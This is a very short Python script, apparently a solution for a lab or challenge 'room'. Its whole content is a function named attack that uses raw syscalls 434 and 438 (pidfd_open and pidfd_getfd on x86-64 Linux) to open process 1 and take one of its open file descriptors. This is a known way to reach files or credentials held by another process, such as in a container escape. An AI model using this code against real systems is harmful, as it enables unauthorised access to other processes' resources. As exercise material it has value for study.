"""Takes an open file out of the room's first process."""

import kit


def attack():
    handle = kit.call(434, 1, 0)
    return f"descriptor {kit.call(438, handle, 1, 0)} out of process 1"
